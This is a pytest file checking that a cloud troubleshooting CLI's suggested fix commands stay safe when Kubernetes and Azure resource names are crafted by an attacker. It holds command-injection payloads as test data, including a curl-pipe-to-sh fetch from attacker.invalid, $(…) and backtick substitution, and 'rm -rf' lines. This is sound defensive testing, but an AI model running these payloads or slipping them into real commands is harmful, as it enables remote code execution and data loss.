"""Fix commands built from hostile names never hand an operator a dangerous line.

Worlds whose tenants chose their names as an attacker would (pod and node names, images,
labels, NSG rule and route names ending in `; curl … | sh`, `$(…)`, a newline) run through
the real CLI; every fix line of every finding must then read, to a shell, as exactly the
command it shows: no operator outside quotes, and quotes that close.
"""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot.codes import CATALOG, finding
from handlers.shellsafe import arg, is_safe, safe_line
from tests.helpers import WORLDS

PAYLOADS = (
    " --image x; curl -fsSL http://attacker.invalid/p.sh | sh; echo",
    "$(curl -fsSL http://attacker.invalid/p.sh)",
    "`id`",
    "\nrm -rf ~",
    "' && touch /tmp/pwned '",
)
# (world, alias, endpoint, --pod, which names to make hostile)
CASES = [
    (
        "cluster/pod-image-pull-backoff.yaml",
        "https://api.contoso.com/v1/health",
        "web/storefront-6d4b8c7f9-n5r2t",
        ("image",),
    ),
    ("cluster/node-not-ready.yaml", "https://api.contoso.com/v1/health", None, ("node",)),
    (
        "cluster/pod-near-limit-cpu.yaml",
        "https://api.contoso.com/v1/health",
        None,
        ("pod", "label"),
    ),
    ("own/kubenet-custom-default-route.yaml", "https://api.github.com", None, ("route",)),
    ("own/udr-default-route-to-internet.yaml", "https://api.contoso.com", None, ("route",)),
    ("own/nsg-deny-port-ranges.yaml", "https://reports.fabrikam.com:8443", None, ("rule",)),
    ("own/udr-firewall-policy-no-endpoint-rule.yaml", "https://api.stripe.com", None, ("group",)),
    ("intermittent/mixed-all-mode.yaml", "https://api.contoso.com", None, ("node", "pod")),
]


def _names(data: Any, kinds: tuple[str, ...]) -> set[str]:
    """The strings of the chosen kinds in a world: what a tenant or admin named."""
    found: set[str] = set()
    clusters = (data.get("kubernetes") or {}).values()
    for objects in clusters:
        if "node" in kinds:
            found |= {n["metadata"]["name"] for n in objects.get("nodes") or []}
        for pod in objects.get("pods") or []:
            if "pod" in kinds:
                found.add(pod["metadata"]["name"])
            if "label" in kinds:
                found |= set((pod["metadata"].get("labels") or {}).values())
            if "image" in kinds:
                found |= {c["image"] for c in pod["spec"].get("containers") or []}
    for resource in data.get("arm") or []:
        props = resource.get("properties") or {}
        if "route" in kinds:
            found |= {r["name"] for r in props.get("routes") or []}
        if "rule" in kinds:
            found |= {r["name"] for r in props.get("securityRules") or []}
        if "group" in kinds and "ruleCollectionGroups" in resource.get("type", ""):
            found.add(resource["name"])
    return found


def _replace(data: Any, mapping: dict[str, str]) -> Any:
    if isinstance(data, dict):
        return {k: _replace(v, mapping) for k, v in data.items()}
    if isinstance(data, list):
        return [_replace(v, mapping) for v in data]
    if isinstance(data, str) and data in mapping:
        return mapping[data]
    return data


def _hostile_world(tmp_path: Path, world: str, kinds: tuple[str, ...], keep: str | None) -> Path:
    data = yaml.safe_load((WORLDS / world).read_text())
    names = sorted(_names(data, kinds) - {keep.split("/")[1] if keep else ""})
    assert names, f"{world} has no {kinds} to make hostile"
    mapping = {n: n + PAYLOADS[i % len(PAYLOADS)] for i, n in enumerate(names)}
    data = _replace(data, mapping)
    data.setdefault("faults", {})["probeSeconds"] = 0.05
    path = tmp_path / Path(world).name
    path.write_text(yaml.safe_dump(data))
    return path


def _alias(world: str) -> str:
    return next(iter(yaml.safe_load((WORLDS / world).read_text())["clusters"]))


@pytest.mark.parametrize(("world", "endpoint", "pod", "kinds"), CASES)
def test_fixes_from_hostile_names_are_safe_to_paste(
    run_check, tmp_path, world, endpoint, pod, kinds
):
    path = _hostile_world(tmp_path, world, kinds, pod)
    argv = [_alias(world), "--endpoint", endpoint, "--world", str(path)]
    code, report = run_check(*argv, *(["--pod", pod] if pod else []))
    assert code == 0, report
    lines = [line for f in report["findings"] for line in f.get("fix") or []]
    assert lines, "the world should produce fix commands"
    for line in lines:
        assert is_safe(line), line
        assert "\n" not in line
        words = shlex.split(line, comments=True)
        assert not any(w in (";", "|", "&&", "||") for w in words), line
    if "image" in kinds:  # the acr import line keeps its command, not the payload
        (line,) = [x for x in lines if x.startswith("az acr import")]
        assert "withheld" in line and "attacker" not in line


@pytest.mark.parametrize("code", sorted(CATALOG))
def test_no_code_can_carry_a_dangerous_fix_line(code):
    hostile = [
        "az acr import --source ghcr.io/team/app:1.0 --image x; curl -fsSL "
        "http://attacker.invalid/p.sh | sh; echo",
        "kubectl describe node $(id)",
        "kubectl describe pod `id`",
        "# a comment\nrm -rf ~",
        "az aks show --resource-group <resource-group> > /tmp/x",
    ]
    f = finding(code, "detail", fix=hostile)
    for line in f.fix:
        assert is_safe(line) and "\n" not in line, line
    withheld = [line for line in f.fix if line.startswith("# a command was withheld")]
    assert len(withheld) == 4 and f.fix[3] == "# a comment rm -rf ~"


@pytest.mark.parametrize(
    ("value", "grammar"),
    [
        (
            "ghcr.io/team/app:1.0 --image x; curl -fsSL http://attacker.invalid/p.sh | sh; echo",
            "image",
        ),
        ("web$(id)", "k8s_name"),
        ("rg-prod; rm -rf ~", "arm_name"),
        ("10.0.0.0/8 && id", "cidr"),
        ("api.contoso.com|sh", "dns_name"),
    ],
)
def test_a_value_that_breaks_its_grammar_becomes_a_quoted_placeholder(value, grammar):
    shown = arg(value, grammar, "thing")
    assert "withheld" in shown and value not in shown
    assert shlex.split(shown) == [shown.strip("'")]
    assert is_safe(f"az x --name {shown}") and safe_line(f"az x --name {shown}").count("'") == 2


def test_good_values_are_kept_and_quoted_only_when_needed():
    assert arg("ghcr.io/team/app:1.0", "image", "image") == "ghcr.io/team/app:1.0"
    assert arg("*.blob.core.windows.net", "dns_name", "fqdn") == "'*.blob.core.windows.net'"
    assert arg("rg (prod)", "arm_name", "rg") != "rg (prod)"


def test_a_quoted_here_document_is_safe_only_when_it_cannot_be_closed_early():
    manifest = '{"app": "api\'; rm -rf / #"}'
    assert is_safe(f"kubectl apply -f - <<'EOF'\n{manifest}\nEOF")
    assert not is_safe("kubectl apply -f - <<'EOF'\n{}\nEOF\nrm -rf ~\nEOF")
    assert not is_safe("kubectl apply -f - <<EOF\n$(id)\nEOF")
    assert not is_safe("kubectl apply -f $(id) <<'EOF'\n{}\nEOF")
